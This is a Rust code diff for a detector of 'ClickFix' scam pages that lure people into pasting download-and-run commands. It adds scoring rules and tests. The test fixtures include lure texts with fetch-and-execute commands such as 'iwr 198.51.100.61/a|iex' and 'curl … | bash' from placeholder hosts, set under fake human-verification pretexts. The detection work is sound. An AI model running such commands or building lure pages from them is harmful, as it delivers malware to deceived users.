@@ -217,18 +217,24 @@ impl Command {
     /// Fetches from where no installer is published: 2 for a public IP (any scheme) or a share
     /// on one or over WebDAV, 1 for plain `http://` / `ftp://` from another site than the
     /// page's, 0 otherwise. A private, loopback or intranet address is the person's own network.
+    #[inline(never)]
     pub fn lure_fetch(&self, page_site: &str) -> u8 {
         // A WebDAV share on the page's own site is how an IT page maps its drive.
-        let unc = self
-            .flat
-            .find("\\\\")
-            .map_or("", |i| share_host(&self.flat[i..]));
+        let unc = unc_host(&self.flat);
         let dav = unc.contains('@') || has(&self.flat, "davwwwroot");
         let elsewhere = !same_site(unc.split('@').next().unwrap_or(""), page_site);
         if unc_reaches_out(&self.flat) && (dav && elsewhere || ip_host(unc)) {
             return 2;
         }
-        if self.shapes.contains(&Shape::MshtaUrl) && public_ip_arg(&tokens(&self.flat)) {
+        // A bare public IP given to a program that fetches (`mshta 198.51.100.3`, `iwr
+        // 203.0.113.5/a|iex`, `curl 203.0.113.5/x | sh`): no scheme, plain http.
+        if self.shapes.iter().any(|s| {
+            matches!(
+                s,
+                Shape::MshtaUrl | Shape::PowerShellDownload | Shape::PipeToShell
+            )
+        }) && public_ip_arg(&tokens(&self.flat))
+        {
             return 2;
         }
         let mut level = 0;
@@ -399,6 +405,7 @@ fn tokens(flat: &str) -> Vec<&str> {
 }
 
 /// The program name of a token: `C:\Windows\System32\mshta.exe` → `mshta`.
+#[inline(never)]
 fn program(tok: &str) -> &str {
     let base = tok.rsplit(['\\', '/']).next().unwrap_or(tok);
     base.strip_suffix(".exe").unwrap_or(base)
@@ -425,6 +432,11 @@ fn has_word(flat: &str, word: &str) -> bool {
 
 fn has_url(flat: &str) -> bool {
     has(flat, "http:") || has(flat, "https:") || unc_reaches_out(flat) || has(flat, "ftp:")
+}
+
+/// The host of the first UNC path of `flat` (empty when there is none).
+fn unc_host(flat: &str) -> &str {
+    flat.find("\\\\").map_or("", |i| share_host(&flat[i..]))
 }
 
 /// A UNC path to a host the internet can serve: a dotted name, an IP, WebDAV's `host@SSL`.
@@ -1189,6 +1201,23 @@ impl PageHits {
             })
     }
 
+    /// Install words in the page's own prose, not in a file or path name (a lure's `curl
+    /// https://…/install.sh | sh` names no installation: review 27).
+    #[inline(never)]
+    fn install_prose(&self) -> bool {
+        let b = self.base.as_bytes();
+        let path = |c: Option<&u8>| matches!(c, Some(b'.' | b'/' | b'-' | b'_'));
+        let in_name = |h: &&Hit| {
+            path(h.start.checked_sub(1).and_then(|i| b.get(i)))
+                || path(b.get(h.end)) && b.get(h.end + 1).is_some_and(u8::is_ascii_alphanumeric)
+        };
+        self.of(Cat::InstallDocs)
+            .filter(|h| !in_name(h))
+            .map(|h| h.weight)
+            .sum::<f32>()
+            >= 1.0
+    }
+
     fn of(&self, cat: Cat) -> impl Iterator<Item = &Hit> {
         self.hits.iter().filter(move |h| h.cat == cat)
     }
@@ -1440,7 +1469,9 @@ fn typed(snap: &Snapshot, text: &str) -> Option<ClickFix> {
     let (line, command) = typed_lines(text)
         .into_iter()
         .filter_map(|l| Some((l, recognise(l)?)))
-        .find(|(_, c)| c.strong() || c.lure_fetch("") > 0)?;
+        .find(|(_, c)| {
+            c.strong() || c.lure_fetch("") > 0 || c.shapes.contains(&Shape::PipeToShell)
+        })?;
     // The steps and the story stand around the command: the page is read from 3 KB before it to
     // 1.5 KB after it (with its title), not whole a second time (a 64 KB docs page showing an
     // `iex` doubled the engine's time).
@@ -1564,8 +1595,10 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     }
     // A shell window named ("open PowerShell") is a run step when the command is kept off the
     // page, as kits keep theirs: a tutorial says it too, above the command it shows.
-    let run_dialog = page.weight(Cat::RunDialog) >= 1.0
-        || page.weight(Cat::RunShell) >= 1.0 && !page.shows(&command);
+    // What the person sees is what they paste (an IT page gives a share path for the Run box so).
+    let shown = page.shows(&command);
+    let run_dialog =
+        page.weight(Cat::RunDialog) >= 1.0 || page.weight(Cat::RunShell) >= 1.0 && !shown;
     let terminal = page.weight(Cat::RunTerminal) >= 1.0;
     let paste = page.weight(Cat::PasteStep) >= 1.0;
     // A human check ("verify you are human") is a pretext next to any command; a bare
@@ -1575,14 +1608,14 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         .of(Cat::VerifyHuman)
         .map(|h| h.weight)
         .fold(0.0f32, f32::max);
+    let install_like = command.install_like(&page.site);
     // With a CAPTCHA named next to it, "verification steps" is the check's own.
     let page_pretext = verify >= 1.0
-        || verify >= GENERIC_VERIFY
-            && (page.weight(Cat::VerifyHuman) >= 1.0 || !command.install_like(&page.site));
+        || verify >= GENERIC_VERIFY && (page.weight(Cat::VerifyHuman) >= 1.0 || !install_like);
     // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
     // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
     // are documentation; a lure always adds its story (verify, fix, update, open the file).
-    let docs = command.install_like(&page.site) && page.documents_install(&command);
+    let docs = install_like && page.documents_install(&command);
     // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
     // it, press Win+X …"), but shows the very command it copies and fetches nothing, or only
     // from its own site; a lure hides its command or fetches from elsewhere. A kit on its own
@@ -1592,24 +1625,19 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     let install_words = page.weight(Cat::InstallDocs) >= 1.0;
     let own_fetch = command.fetches_from_site(&page.site)
         && (install_words || page.story().all(|h| h.cat != Cat::Error));
-    let help = command.install_like(&page.site)
+    let help = install_like
         && (install_words || !command.installs_package())
-        && page.shows(&command)
+        && shown
         && (!command.remote || own_fetch)
         && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
         && page
             .story()
             .all(|h| matches!(h.cat, Cat::FixPretext | Cat::Error));
-    // An IT page that gives a share path for the Run box shows it.
-    let shown = page.shows(&command);
     let unc_only = command.shapes.iter().all(|s| *s == Shape::UncOpen);
     // Without a pretext only a share no IT page gives is a lure: WebDAV on another site or a
     // public IP. A named host (the organisation's software share) or the page's own WebDAV
     // share is what IT pages copy.
-    let host = command
-        .flat
-        .find("\\\\")
-        .map_or("", |i| share_host(&command.flat[i..]));
+    let host = unc_host(&command.flat);
     let dav = host.contains('@') || has(&command.flat, "davwwwroot");
     let elsewhere = registrable(host.split('@').next().unwrap_or("")) != page.site;
     let unc_lure = dav && elsewhere || ip_host(host);
@@ -1683,8 +1711,17 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     let typed_run = run_dialog || terminal || verify >= 1.0 && shell_named;
     // Words about scams excuse it without a human check only: a kit's check "protects the site
     // from bots and phishing" too (a write-up quoting the check names the attack: `write_up`).
-    // A command from a bare IP or share tells its own story.
-    if typed && (!(told || fetch > 1) || !typed_run || about >= 1.0 && verify < 1.0 || write_up) {
+    // A command from a bare IP or share tells its own story. A plain `curl https://… | sh` is
+    // how developer tools install: a lure only with a human check and no installation framed
+    // ("Verify you are human … open Terminal and type"; a CAPTCHA library's docs install it).
+    let pipe_only = command.shapes.iter().all(|s| *s == Shape::PipeToShell);
+    if typed
+        && (!(told || fetch > 1)
+            || !typed_run
+            || about >= 1.0 && verify < 1.0
+            || write_up
+            || pipe_only && fetch == 0 && (verify < 1.0 || page.install_prose()))
+    {
         return None;
     }
     let mut instructions = Vec::new();
@@ -3518,6 +3555,135 @@ mod tests {
             (
                 "http://perlish.example.org/",
                 "Out of date? Open Terminal and type:\ncurl -L http://install.perlish.example.org | bash",
+            ),
+        ] {
+            assert_eq!(reasons(&snap_of(url, "", text, "")), None, "{text}");
+        }
+    }
+    #[test]
+    fn an_installer_saved_and_started_is_no_documentation_by_itself() {
+        // A page that gives a reason to install something to see or join the page itself, with
+        // the same shape as vendors' docs (an https redirect saved as a named installer and
+        // started) and install words, is a lure (review 27 H3): the shape alone excuses nothing,
+        // so vendors' guides of this shape stay warned (DETECTION.md says so).
+        for (url, title, text, c) in [
+            (
+                "https://films-hd.example/movie/77",
+                "Install the player to watch this film",
+                "This film needs the HD player.\nInstall the player\nPress Win+X and choose \
+                 Windows PowerShell (Admin), then run the following command:\n{c}\nCopy\nThen \
+                 reload this page.",
+                "Invoke-WebRequest -Uri https://cdn.hd-player.test/get -OutFile .\\HdPlayer.exe; \
+                 Start-Process .\\HdPlayer.exe",
+            ),
+            (
+                "https://meet-join.example/j/5512",
+                "Join meeting - audio setup",
+                "Ihr Meeting beginnt gleich. Installieren Sie die Audiokomponente, um \
+                 teilzunehmen.\nDrücken Sie Win+X, wählen Sie Windows PowerShell (Administrator) \
+                 und führen Sie den folgenden Befehl aus:\n{c}\nKopieren",
+                "iwr https://files.meet-audio.test/d -OutFile $env:TEMP\\MeetAudio.msi; \
+                 Start-Process msiexec.exe -ArgumentList '/i', \"$env:TEMP\\MeetAudio.msi\", \
+                 '/quiet'",
+            ),
+        ] {
+            let s = snap_of(url, title, &text.replace("{c}", c), c);
+            assert!(reasons(&s).is_some(), "{text}");
+        }
+    }
+
+    #[test]
+    fn typed_commands_from_a_bare_ip_or_behind_a_human_check() {
+        // Nothing copied, the command shown in big type: a bare public IP given to a program that
+        // fetches (no scheme: plain http) tells its own story (eval25: Win+R, conhost --headless).
+        for (url, text) in [
+            (
+                "https://acces-securise.example/",
+                "Accès sécurisé\nWin+R puis tapez : conhost --headless powershell iwr \
+                 198.51.100.61/a|iex\nEntrée",
+            ),
+            (
+                "https://verifica.example/",
+                "Premi Win+R e digita:\npowershell -c \"iwr 198.51.100.8/v.ps1|iex\"\npoi Invio.",
+            ),
+            (
+                "https://pruefung.example/",
+                "Öffnen Sie das Terminal und geben Sie ein:\ncurl -s 203.0.113.77/m | bash",
+            ),
+            // A plain `curl https://… | sh` under a human check, no installation framed.
+            (
+                "https://verificacion.example/",
+                "Verifique que es humano\nNo soy un robot\nAbra Terminal (Cmd + Espacio, escriba \
+                 Terminal) y escriba:\ncurl -fsSL https://verificacion.example/c.sh | sh",
+            ),
+            (
+                "https://cf-check.example/",
+                "Verify you are human\nPress Command + Space, type Terminal and press Return, \
+                 then type:\ncurl -fsSL https://cf-check.example/v.sh | sh",
+            ),
+            (
+                "https://verif-fr.example/",
+                "Vérifiez que vous êtes humain\nOuvrez le Terminal (Cmd + Espace, tapez Terminal) \
+                 et tapez :\ncurl -fsSL https://verif-fr.example/c.sh | bash",
+            ),
+            (
+                "https://pruef-de.example/",
+                "Bestätigen Sie, dass Sie ein Mensch sind\nÖffnen Sie das Terminal und geben Sie \
+                 ein:\ncurl -fsSL https://pruef-de.example/c.sh | bash",
+            ),
+            // The script on another site, named `install.sh`: a file name is no install word
+            // (review 27).
+            (
+                "https://cloud-gate.example/",
+                "Verify you are human\nTo finish the check, open Terminal, type this and press \
+                 Return:\ncurl -fsSL https://get.mac-helper.test/install.sh | bash",
+            ),
+            // Linux: a terminal opened with Ctrl+Alt+T, wget from a bare IP.
+            (
+                "https://verif.example/",
+                "Verifique que es humano\nAbra una terminal (Ctrl+Alt+T) y escriba:\n\
+                 wget -qO- 203.0.113.40/c | sh",
+            ),
+        ] {
+            let r = reasons(&snap_of(url, "", text, "")).unwrap_or_default();
+            assert!(r.contains(&ReasonId::TypedCommand), "{text}: {r:?}");
+        }
+        // Honest: install docs (Terminal, own https installer, a CAPTCHA library's docs naming its
+        // check), a how-to fixing "command not found", a LAN IP, a health check, a ping, a local
+        // headless script.
+        for (url, text) in [
+            (
+                "https://brew-pkg.example/",
+                "Install Homebrew\nOpen Terminal (Cmd+Space, type Terminal) and type:\n\
+                 /bin/bash -c \"$(curl -fsSL https://raw.brew-pkg.example/install.sh)\"",
+            ),
+            (
+                "https://rust-fr.example/installer",
+                "Installer Rust\nOuvrez le Terminal et tapez la commande suivante :\n\
+                 curl --proto '=https' --tlsv1.2 -sSf https://sh.rust-fr.example | sh",
+            ),
+            (
+                "https://captcha-lib.example/docs",
+                "captcha-lib adds a 'Verify you are human' check to your forms.\nInstall\n\
+                 Open Terminal and type:\ncurl -fsSL https://get.captcha-lib.example | sh",
+            ),
+            (
+                "https://dev-blog.example/nvm",
+                "Fehlerbehebung: nvm: command not found\nÖffnen Sie das Terminal und geben Sie \
+                 ein:\ncurl -o- https://raw.nvm-project.example/v0.40.1/install.sh | bash",
+            ),
+            (
+                "https://homelab.example/pi",
+                "Open Terminal and type:\ncurl -s 192.168.1.20/setup.sh | bash",
+            ),
+            (
+                "https://devnotes.example/api",
+                "Open Terminal on your laptop and run:\ncurl 203.0.113.10:8080/health",
+            ),
+            (
+                "https://sysadmin-tips.example/conhost",
+                "Press Win+R and type:\nconhost --headless powershell -File C:\\Scripts\\backup.ps1\n\
+                 The backup runs without a console window.",
             ),
         ] {
             assert_eq!(reasons(&snap_of(url, "", text, "")), None, "{text}");
